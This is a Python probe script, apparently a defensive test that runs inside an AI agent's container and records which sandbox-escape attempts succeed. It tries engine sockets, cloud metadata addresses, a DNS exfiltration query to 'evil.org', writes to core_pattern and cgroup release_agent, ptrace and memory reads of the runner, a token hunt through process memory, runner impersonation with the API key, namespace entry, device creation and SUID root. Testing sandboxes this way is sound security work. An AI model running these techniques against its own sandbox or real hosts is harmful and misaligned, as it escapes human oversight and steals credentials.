"""Runs inside a container, from its agent's Bash tool, and tries to get out. Reads `plan.json`, writes `found.json`.

What it writes is, for each attempt by name, what it got hold of, or null where it was refused.
"""

import ctypes
import hashlib
import json
import os
import re
import signal
import socket
import stat
import subprocess
from collections.abc import Callable
from pathlib import Path

PLAN = json.loads(Path("plan.json").read_text())
LIBC = ctypes.CDLL(None, use_errno=True)
ATTEMPTS: dict[str, Callable[[], object]] = {}
PTRACE_ATTACH, PTRACE_SEIZE = 16, 0x4206
TOKEN = re.compile(rb"[A-Za-z0-9_-]{43}")


def attempt(function):
    ATTEMPTS[function.__name__] = function
    return function


def call(name, *arguments):
    ctypes.set_errno(0)
    result = getattr(LIBC, name)(*arguments)
    if result == -1:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number))
    return result


def first(things, use):
    """The first of the things that could be used, with what came of it."""
    for thing in things:
        try:
            got = use(thing)
        except (OSError, ValueError):
            continue
        if got not in (None, b"", "", []):
            return f"{thing}: {got!r}"[:300]
    return None


def read(path):
    with open(path, "rb") as file:
        return file.read(200)


def write(path):
    with open(path, "r+b" if os.path.exists(path) else "wb") as file:
        file.write(b"|/tmp/x")
    return "written"


def processes():
    return [int(name) for name in os.listdir("/proc") if name.isdigit()]


def runners():
    """The runner, by its command line, which everyone may read."""
    return [pid for pid in processes() if b"carrel.runner" in Path(f"/proc/{pid}/cmdline").read_bytes()]


def the_runner():
    """The process itself; the init before it has its command line as arguments."""
    return [pid for pid in runners() if b"python" in Path(f"/proc/{pid}/cmdline").read_bytes().split(b"\0")[0]]


def connect(address):
    family = socket.AF_UNIX if isinstance(address, str) else socket.AF_INET
    with socket.socket(family) as client:
        client.settimeout(2)
        client.connect(address)
        return "connected"


@attempt
def control_status():
    lines = [line.partition(":") for line in Path("/proc/self/status").read_text().splitlines()]
    return {
        key: value.strip()
        for key, _, value in lines
        if key.startswith("Cap") or key in ("NoNewPrivs", "Seccomp", "Uid")
    }


@attempt
def control_sees_the_runner():
    return len(the_runner())


@attempt
def control_gateway():
    return connect("/run/carrel/gateway.sock")


@attempt
def engine_socket():
    return first(
        ["/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock", "/run/podman/podman.sock"],
        connect,
    )


@attempt
def host_files():
    return first([*PLAN["private_paths"], "/etc/shadow", "/proc/1/root/etc/shadow"], read)


@attempt
def other_containers():
    command = ["find", "/", "-name", PLAN["marker"] + "*", "-not", "-path", "/proc/*"]
    found = subprocess.run(command, capture_output=True, text=True, check=False).stdout.split()
    return found or None


@attempt
def processes_of_others():
    listed = [Path(f"/proc/{pid}/cmdline").read_bytes() for pid in processes()]
    return [str(line) for line in listed if b"dockerd" in line or b"pytest" in line or b"carrel serve" in line] or None


@attempt
def metadata_address():
    return first([("169.254.169.254", 80), ("169.254.170.2", 80), ("100.100.100.200", 80)], connect)


@attempt
def the_host_and_its_api():
    ports = [PLAN["port"], 22, 2375, 2376]
    return first([(host, port) for host in ("127.0.0.1", "172.17.0.1", "10.0.0.1") for port in ports], connect)


@attempt
def raw_sockets():
    kinds = [(socket.AF_INET, socket.SOCK_RAW, 1), (socket.AF_PACKET, socket.SOCK_RAW, 3), (40, socket.SOCK_STREAM, 0)]

    def opened(kind):
        with socket.socket(*kind) as made:
            if kind[0] == 40:  # AF_VSOCK: the machine below
                made.settimeout(2)
                made.connect((2, 1024))
            return "opened"

    return first(kinds, opened)


@attempt
def names():
    try:
        return socket.getaddrinfo("example.org", 80)
    except OSError:
        return None


@attempt
def a_tunnel_through_dns():
    def ask(server):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
            client.settimeout(2)
            client.sendto(
                b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x04data\x04evil\x03org\x00\x00\x10\x00\x01", server
            )
            return client.recv(512)

    return first([("8.8.8.8", 53), ("127.0.0.11", 53), ("172.17.0.1", 53)], ask)


@attempt
def mounts():
    tries = [
        (b"none", b"/tmp", b"tmpfs", 0),
        (b"/workspace", b"/home/agent", None, 0x1000),
        (b"none", b"/", None, 0x20),
        (b"proc", b"/tmp", b"proc", 0),
        (b"cgroup", b"/tmp", b"cgroup", 0),
    ]
    got = first(tries, lambda each: str(call("mount", *each, None)))
    return got or first([b"/etc/passwd", b"/proc/kcore", b"/workspace"], lambda each: str(call("umount2", each, 2)))


@attempt
def sysrq_and_settings_of_the_kernel():
    return first(
        [
            "/proc/sysrq-trigger",
            "/proc/sys/kernel/core_pattern",
            "/proc/sys/kernel/modprobe",
            "/proc/sys/vm/overcommit_memory",
            "/sys/kernel/uevent_helper",
            "/sys/power/state",
        ],
        write,
    )


@attempt
def control_groups():
    groups = [
        str(path)
        for path in Path("/sys/fs/cgroup").rglob("*")
        if path.name in ("release_agent", "memory.limit_in_bytes", "memory.max", "cgroup.procs", "pids.max")
    ]
    return first(groups, write)


@attempt
def trace_the_runner():
    def trace(how):
        request, pid = how
        call("ptrace", request, pid, None, None)
        return "traced"

    return first([(request, pid) for request in (PTRACE_ATTACH, PTRACE_SEIZE) for pid in the_runner()], trace)


@attempt
def memory_of_the_runner():
    class Piece(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]

    def read_from(pid):
        room = ctypes.create_string_buffer(8)
        here, there = Piece(ctypes.cast(room, ctypes.c_void_p), 8), Piece(0x400000, 8)
        call("process_vm_readv", pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
        return "read"

    return first(the_runner(), read_from) or first(
        [f"/proc/{pid}/{name}" for pid in the_runner() for name in ("mem", "maps", "environ")], read
    )


@attempt
def descriptors_of_the_runner():
    found = first([f"/proc/{pid}/fd" for pid in the_runner()], os.listdir)
    if found is None and hasattr(os, "pidfd_open"):

        def take(pid):
            return str(call("syscall", 438, os.pidfd_open(pid), 3, 0))  # pidfd_getfd

        found = first(the_runner(), take)
    return found


@attempt
def the_link_token():
    """In every environment, argument, descriptor's file and memory that can be read; known by its digest alone."""

    def search(data):
        return any(hashlib.sha256(word).hexdigest() == PLAN["token_digest"] for word in TOKEN.findall(data))

    for pid in processes():
        for name in ("environ", "cmdline"):
            try:
                if search(Path(f"/proc/{pid}/{name}").read_bytes()):
                    return f"{pid}/{name}"
            except OSError:
                continue
        try:
            regions = Path(f"/proc/{pid}/maps").read_text().splitlines()
            with open(f"/proc/{pid}/mem", "rb", 0) as memory:
                for line in regions:
                    start, end = (int(each, 16) for each in line.split()[0].split("-"))
                    if "rw" not in line or end - start > 64 << 20:
                        continue
                    try:
                        memory.seek(start)
                        if search(memory.read(end - start)):
                            return f"{pid}/mem"
                    except (OSError, ValueError):
                        continue
        except OSError:
            continue
    for folder in ("/run", "/tmp", "/workspace", "/home/agent", "/etc", "/dev/shm"):
        for path in Path(folder).rglob("*"):
            try:
                if path.is_file() and search(path.read_bytes()):
                    return str(path)
            except OSError:
                continue
    return None


@attempt
def hello_as_a_runner():
    from websockets.sync.client import unix_connect

    told = []
    for sandbox in (os.environ["CARREL_SANDBOX"], PLAN["neighbour"]):
        for token in ("x" * 43, os.environ["ANTHROPIC_API_KEY"], ""):
            hello = {"type": "hello", "sandbox_id": sandbox, "token": token, "generation": 99, "last_acked": 0}
            hello |= {"version": PLAN["protocol"], "bound": True}
            try:
                with unix_connect("/run/carrel-link/link.sock", uri="ws://gateway/link", open_timeout=5) as link:
                    link.send(json.dumps(hello))
                    answer = json.loads(str(link.recv(timeout=5)).split("\n")[0])
            except Exception:
                continue
            if answer.get("type") != "refused":
                told.append(answer)
    return told or None


@attempt
def namespaces():
    kinds = [0x10000000, 0x00020000, 0x40000000, 0x20000000, 0x08000000, 0x04000000, 0x02000000]
    return first(kinds, lambda kind: f"made {call('unshare', kind)}")


@attempt
def namespaces_of_others():
    def enter(path):
        fd = os.open(path, os.O_RDONLY)
        try:
            call("setns", fd, 0)
        finally:
            os.close(fd)
        return "entered"

    mine = {name: os.readlink(f"/proc/self/ns/{name}") for name in os.listdir("/proc/self/ns")}
    others = []
    for pid in processes():
        for name, own in mine.items():
            try:
                if os.readlink(f"/proc/{pid}/ns/{name}") != own:
                    others.append(f"/proc/{pid}/ns/{name}")
            except OSError:
                continue
    return first(others, enter)


@attempt
def devices():
    def make(number):
        os.mknod("/tmp/device", stat.S_IFBLK | 0o600, number)
        return "made"

    got = first([os.makedev(8, 0), os.makedev(254, 0), os.makedev(1, 1)], make)
    paths = ["/dev/mem", "/dev/kmsg", "/dev/sda", "/dev/vda", "/dev/kvm", "/dev/fuse", "/proc/kcore", "/proc/kmsg"]
    return got or first(paths, read)


@attempt
def root():
    got = first([0], lambda uid: call("setuid", uid) or "root")
    suid = subprocess.run(
        ["find", "/usr", "/opt", "-perm", "-4000"], capture_output=True, text=True, check=False
    ).stdout.split()
    become = first(
        suid,
        lambda path: (
            b"uid=0"
            in subprocess.run(
                [path, "-c", "id"], capture_output=True, timeout=5, check=False, stdin=subprocess.DEVNULL
            ).stdout
            or None
        ),
    )
    return got or become


@attempt
def system_files():
    return first(
        [
            "/etc/passwd",
            "/etc/hosts",
            "/usr/bin/x",
            "/opt/carrel/x",
            "/run/carrel/x",
            "/run/carrel-link/x",
            "/usr/local/bin/claude",
        ],
        write,
    )


@attempt
def calls_of_the_kernel():
    numbers = {
        "bpf": (321, 0, 0, 0),
        "perf_event_open": (298, 0, 0, -1, -1, 0),
        "keyctl": (250, 0, -3, 0),
        "kexec_load": (246, 0, 0, 0, 0),
        "init_module": (175, 0, 0, 0),
        "reboot": (169, 0xFEE1DEAD, 672274793, 0),
        "open_by_handle_at": (304, -1, 0, 0),
        "userfaultfd": (323, 0),
    }
    if os.uname().machine != "x86_64":
        return None
    return first(numbers, lambda name: f"answered {call('syscall', *numbers[name])}")


@attempt
def sockets_of_the_host():
    here = [
        line.split()[-1] for line in Path("/proc/net/unix").read_text().splitlines()[1:] if "@" in line or "/" in line
    ]
    strange = [name for name in here if not name.startswith(("/run/carrel/", "/run/carrel-link/", "/tmp/"))]
    return first([name.replace("@", "\0", 1) for name in strange], connect)


def main():
    found = {}
    for name, function in ATTEMPTS.items():
        signal.alarm(60)
        try:
            found[name] = function()
        except Exception as error:
            found[name] = f"the probe itself failed: {error!r}"
    Path("found.new").write_text(json.dumps(found, default=str))
    os.rename("found.new", "found.json")


main()
